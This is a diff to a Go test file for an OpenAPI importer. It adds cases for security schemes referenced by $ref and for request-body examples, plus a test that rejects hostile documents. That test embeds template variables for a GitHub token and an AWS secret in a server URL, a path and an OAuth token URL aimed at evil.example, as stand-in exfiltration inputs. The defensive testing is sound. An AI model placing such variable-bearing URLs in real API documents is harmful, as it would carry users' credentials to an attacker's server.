@@ -188,6 +188,8 @@ var schemeTests = []struct {
 		scheme: "none", unmapped: `"missing" is not defined`},
 	{name: "scheme by $ref", security: "[{key: []}]", schemes: "    key: {$ref: '#/components/securitySchemes/real'}\n    real: {type: apiKey, in: header, name: X-Key}\n",
 		scheme: "apikey", fields: map[string]string{"name": "X-Key", "in": "header", "value": "env:EXAMPLE_API_KEY"}, full: true},
+	{name: "scheme by $ref with 3.1 siblings", security: "[{key: []}]", schemes: "    key: {$ref: '#/components/securitySchemes/real', description: the key, summary: k}\n    real: {type: apiKey, in: query, name: k}\n",
+		scheme: "apikey", fields: map[string]string{"name": "k", "in": "query", "value": "env:EXAMPLE_API_KEY"}, full: true},
 	{name: "scheme $ref loop", security: "[{a: []}]", schemes: "    a: {$ref: '#/components/securitySchemes/b'}\n    b: {$ref: '#/components/securitySchemes/a'}\n",
 		scheme: "none", unmapped: "$ref loop"},
 	{name: "scheme external $ref", security: "[{a: []}]", schemes: "    a: {$ref: 'schemes.yaml#/a'}\n",
@@ -493,5 +495,85 @@ paths:
 	}
 	if !strings.Contains(strings.Join(r.Notes, "\n"), "/other, which is not an absolute URL") {
 		t.Errorf("Notes = %q; want the relative server noted", r.Notes)
+	}
+}
+
+// TestHostileVariables: document text that would read as a {{variable}}
+// (and so could carry a variable of the user's environment to the
+// document's server) is not imported.
+func TestHostileVariables(t *testing.T) {
+	doc := `openapi: 3.0.3
+info: {title: T, version: "1"}
+servers: [{url: "https://evil.example/?t={{github_token}}"}, {url: "https://api.example.com"}]
+x-paths-extension: {get: {}}
+paths:
+  /steal/{{github_token}}:
+    get: {}
+  /ok:
+    get:
+      parameters: [{name: "Bad Header", in: header, required: true}]
+      security: [{o: []}]
+components:
+  securitySchemes:
+    o: {type: oauth2, flows: {clientCredentials: {tokenUrl: "https://evil.example/{{aws_secret}}", scopes: {}}}}
+`
+	r := mustImport(t, doc, Options{})
+	for _, p := range r.Profiles {
+		all := p.URL + fmt.Sprint(p.Fields) + fmt.Sprint(p.Headers)
+		if strings.Contains(all, "github_token") || strings.Contains(all, "aws_secret") || strings.Contains(all, "evil") {
+			t.Errorf("profile %s carries the document's variable: %s", p.Name, all)
+		}
+	}
+	if len(r.Profiles) != 1 || r.Profiles[0].Name != "ok/get-ok" {
+		t.Errorf("profiles = %v; want ok/get-ok only", r.Profiles)
+	}
+	if v, _ := envVar(r, "base_url"); v != "https://api.example.com" {
+		t.Errorf("base_url = %q; want the second server", v)
+	}
+	if full, _ := r.Full(); full != 0 {
+		t.Errorf("ok/get-ok mapped fully; want Unmapped (bad header, bad token URL)")
+	}
+}
+
+var bodyTests = []struct {
+	name, requestBody, want, contentType string
+}{
+	{"media example, YAML types kept", `{content: {application/json: {example: {name: Rex, age: 3, good: true, tag: "7", none: null, list: [1, "a"]}}}}`,
+		`{"name":"Rex","age":3,"good":true,"tag":"7","none":null,"list":[1,"a"]}`, "application/json"},
+	{"first of examples", `{content: {application/problem+json: {examples: {a: {value: {x: 1}}, b: {value: {x: 2}}}}}}`, `{"x":1}`, "application/problem+json"},
+	{"schema example by $ref", `{content: {application/json: {schema: {$ref: '#/components/schemas/Pet'}}}}`, `{"name":"Tom"}`, "application/json"},
+	{"no example: no body", `{content: {application/json: {schema: {type: object}}}}`, "", ""},
+	{"form only: no body", `{content: {application/x-www-form-urlencoded: {example: {a: b}}}}`, "", ""},
+}
+
+func TestBodies(t *testing.T) {
+	for _, tt := range bodyTests {
+		t.Run(tt.name, func(t *testing.T) {
+			doc := `openapi: 3.0.3
+info: {title: T, version: "1"}
+servers: [{url: "https://api.example.com"}]
+paths:
+  /pets:
+    post:
+      requestBody: ` + tt.requestBody + `
+components:
+  schemas:
+    Pet: {type: object, example: {name: Tom}}
+`
+			r := mustImport(t, doc, Options{})
+			p := r.Profiles[0]
+			if p.Body != tt.want {
+				t.Errorf("Body = %q; want %q", p.Body, tt.want)
+			}
+			var ct string
+			for _, h := range p.Headers {
+				if h.Name == "Content-Type" {
+					ct = h.Value
+				}
+			}
+			if ct != tt.contentType {
+				t.Errorf("Content-Type = %q; want %q", ct, tt.contentType)
+			}
+		})
 	}
 }
